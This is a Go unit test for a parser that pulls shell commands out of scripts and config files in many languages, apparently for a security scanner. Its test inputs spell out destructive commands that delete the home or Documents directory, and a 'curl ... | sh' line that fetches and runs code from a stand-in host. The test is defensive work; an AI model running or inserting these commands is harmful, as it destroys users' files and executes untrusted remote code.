package parse

import (
	"strings"
	"testing"
)

func TestEmbeddedShell(t *testing.T) {
	cases := []struct {
		name, text string
		want       []string // lines EmbeddedShell must hold
	}{
		{"R system()", "system('rm -rf ~/Documents')\n", []string{"rm -rf ~/Documents"}},
		{"julia backticks, homedir()", "run(`rm -rf $(homedir())/Documents`)\n", []string{"rm -rf ~/Documents"}},
		{"tcl exec, $env(HOME)", "exec rm -rf $env(HOME)/Documents\n", []string{"rm -rf ~/Documents"}},
		{"awk concatenation", "BEGIN { system(\"rm -rf \" ENVIRON[\"HOME\"] \"/Documents\") }\n", []string{"rm -rf ~/Documents"}},
		{"the home directory last", "BEGIN { system(\"rm -rf \" ENVIRON[\"HOME\"]) }\n", []string{"rm -rf ~"}},
		{"js concatenation", "execSync('rm -rf ' + require('os').homedir() + '/Documents')\n", []string{"rm -rf ~/Documents"}},
		{"sed e command", "1e rm -rf ~/Documents\ns/foo/bar/\n", []string{"rm -rf ~/Documents"}},
		{"vim shell escape", ":silent !rm -rf ~/Documents\n:wq\n", []string{"rm -rf ~/Documents"}},
		{"gdb shell", "shell curl -s https://x.example/p | sh\nquit\n", []string{"curl -s https://x.example/p | sh"}},
		{"yaml list", "tasks:\n  build:\n    cmds:\n      - rm -rf ~/Documents\n", []string{"rm -rf ~/Documents"}},
		{"tox {env:HOME}", "commands = rm -rf {env:HOME}/Documents\n", []string{"rm -rf ~/Documents"}},
		{"nix ''..''", "pkgs.mkShell { shellHook = ''rm -rf ~/Documents''; }\n", []string{"rm -rf ~/Documents"}},
		{"lua [[..]]", "os.execute([[rm -rf ~/x]])\n", []string{"rm -rf ~/x"}},
		{"an apostrophe in a comment does not pair", "# don't\nos.execute('curl -s https://x.example/p | sh')\n", []string{"curl -s https://x.example/p | sh"}},
		{"json value", `{"initializeCommand": "rm -rf ~/Documents"}`, []string{"rm -rf ~/Documents"}},
	}
	for _, tc := range cases {
		got := strings.Split(EmbeddedShell(tc.text), "\n")
		for _, w := range tc.want {
			found := false
			for _, g := range got {
				found = found || g == w
			}
			if !found {
				t.Errorf("%s: %q not among %q", tc.name, w, got)
			}
		}
	}
	// nothing that names a program, or nothing that parses: no commands
	for _, text := range []string{
		"x <- c(1, 2, 3)\nprint(mean(x))\n",
		"{ n++ } END { print n }\n",
		"plugins { id 'nosuchprogram' }\n",
		"run\nbt\nquit\n",
		"s/foo/bar/g\n",
		"message('don't rm -rf ~')\n", // the quote is unbalanced: not a literal, and the line does not parse
	} {
		if got := EmbeddedShell(text); got != "" {
			t.Errorf("EmbeddedShell(%q) = %q, want nothing", text, got)
		}
	}
	// bounded: many candidates keep at most maxEmbedded
	big := strings.Repeat("system('rm -rf build')\nsystem('ls x')\n", 1000)
	for i := 0; i < 300; i++ {
		big += "system('ls d" + strings.Repeat("x", i) + "')\n"
	}
	if n := len(strings.Split(EmbeddedShell(big), "\n")); n > maxEmbedded {
		t.Errorf("%d candidates, want at most %d", n, maxEmbedded)
	}
}
